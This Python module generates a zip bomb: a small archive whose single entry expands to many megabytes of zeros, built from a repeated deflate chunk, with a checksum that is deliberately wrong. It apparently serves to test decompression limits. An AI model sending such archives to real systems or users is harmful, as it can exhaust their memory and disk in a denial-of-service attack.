"""An archive that is small, and of which gigabytes come out."""

from __future__ import annotations

import struct
import zlib
from functools import cache

_MEGABYTE = 1_000_000


@cache
def zip_of_zeros(megabytes: int, name: str) -> bytes:
    """A zip with one entry of zeros (PKWARE APPNOTE.TXT §4.3). Its checksum is not that of the zeros."""
    packed = _deflated(megabytes)
    size = megabytes * _MEGABYTE
    common = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 0x5C21, 0, len(packed), size, len(name), 0)
    local = b"PK\x03\x04" + common + name.encode() + packed
    central = (
        b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHLL", 0, 0, 0, 0, 0) + name.encode()
    )
    end = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def _deflated(megabytes: int) -> bytes:
    """One megabyte, packed so that it can be repeated (RFC 1951 §3.2.4: an empty block is where it ends)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packer.compress(bytes(_MEGABYTE))
    packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(_MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    return again * megabytes + packer.flush()
